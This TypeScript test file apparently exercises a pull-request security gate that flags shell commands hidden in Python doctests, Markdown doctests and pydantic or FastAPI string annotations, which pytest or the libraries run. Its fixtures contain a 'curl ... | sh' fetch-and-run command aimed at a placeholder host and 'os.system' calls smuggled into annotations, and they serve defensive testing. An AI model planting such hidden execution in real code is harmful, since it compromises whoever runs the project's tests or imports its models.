import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { gate, pullRequest, scanAnnotations as annotations } from "./pr";

// A pull request must not run a crossing as code no call of the file runs: a docstring example pytest runs because its
// configuration says `--doctest-modules`, a Markdown file's examples under `--doctest-glob`, a string annotation pydantic
// or FastAPI evaluates as the model or endpoint is made. Each ran under python3 3.11 before it was judged; each passed
// the gate before (main's dist: exit 0).

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

function write(dir: string, file: string, text: string) {
  mkdirSync(join(dir, file, ".."), { recursive: true });
  writeFileSync(join(dir, file), text);
}

const DOCSTRING = 'def double(x):\n    """Twice x.\n\n    >>> double(2)\n    4\n    >>> __import__("os").system("curl -s https://x.example | sh")\n    0\n    """\n    return x * 2\n';

describe("code run by the configuration or a library, not by a call, fails the built Action", () => {
  it("scan/shell-command: a docstring example pytest's --doctest-modules (pytest.ini) runs fails at the example; without the option it passes", async () => {
    const pr = await pullRequest((dir) => {
      write(dir, "agent/double.py", DOCSTRING);
      write(dir, "pytest.ini", "[pytest]\naddopts = --doctest-modules\n");
    });
    const r = await gate(api, pr);
    expect([r.code, annotations(r.commands)]).toEqual([1, ["scan/shell-command agent/double.py 6 9"]]);
    expect(r.commands.find((c) => c.startsWith("::error title=scan/"))).toContain("It is a docstring example, which pytest's `--doctest-modules` (pytest.ini) runs.");
    const clean = await pullRequest((dir) => {
      write(dir, "agent/double.py", DOCSTRING);
      write(dir, "pytest.ini", "[pytest]\naddopts = -q\n");
    });
    expect((await gate(api, clean)).code).toBe(0);
  });

  it("scan/shell-command: a change that only adds --doctest-modules fails at the old file's example it now runs, not at the old files' other calls", async () => {
    const pr = await pullRequest(
      (dir) => write(dir, "setup.cfg", "[tool:pytest]\naddopts = --doctest-modules\n"),
      (dir) => {
        write(dir, "agent/double.py", DOCSTRING);
        // The base's own call, which the change does not touch: not the change's to answer for.
        write(dir, "agent/run.py", 'import os\nos.system("id")\n');
      },
    );
    const r = await gate(api, pr);
    expect([r.code, annotations(r.commands)]).toEqual([1, ["scan/shell-command agent/double.py 6 9"]]);
    const clean = await pullRequest(
      (dir) => write(dir, "setup.cfg", "[tool:pytest]\naddopts = -q\n"),
      (dir) => write(dir, "agent/double.py", DOCSTRING),
    );
    expect((await gate(api, clean)).code).toBe(0);
  });

  it("scan/shell-command: a Markdown file's example pyproject's --doctest-glob runs fails at the example; the same file without the pattern passes", async () => {
    const usage = "# Usage\n\n```\n>>> import os\n>>> os.system('curl -s https://x.example | sh')\n0\n```\n";
    const pr = await pullRequest((dir) => {
      write(dir, "docs/usage.md", usage);
      write(dir, "pyproject.toml", '[project]\nname = "agent"\n\n[tool.pytest.ini_options]\naddopts = "--doctest-glob=*.md"\n');
    });
    const r = await gate(api, pr);
    expect([r.code, annotations(r.commands)]).toEqual([1, ["scan/shell-command docs/usage.md 5 5"]]);
    const clean = await pullRequest((dir) => write(dir, "docs/usage.md", usage));
    expect((await gate(api, clean)).code).toBe(0);
  });

  it("scan/shell-command: a pydantic model's string annotation and a FastAPI endpoint's fail at each; a plain class's passes", async () => {
    const pr = await pullRequest((dir) => {
      write(dir, "agent/models.py", "from pydantic import BaseModel\n\n\nclass Job(BaseModel):\n    name: \"__import__('os').system('curl -s https://x.example | sh')\"\n");
      write(dir, "agent/api.py", "from fastapi import FastAPI\n\napp = FastAPI()\n\n\n@app.get(\"/\")\ndef root(q: \"__import__('os').system('id')\" = None):\n    return {}\n");
    });
    const r = await gate(api, pr);
    expect([r.code, annotations(r.commands)]).toEqual([1, ["scan/shell-command agent/api.py 7 13", "scan/shell-command agent/models.py 5 11"]]);
    const clean = await pullRequest((dir) => write(dir, "agent/models.py", "class Job:\n    name: \"__import__('os').system('curl -s https://x.example | sh')\"\n"));
    expect((await gate(api, clean)).code).toBe(0);
  });
});
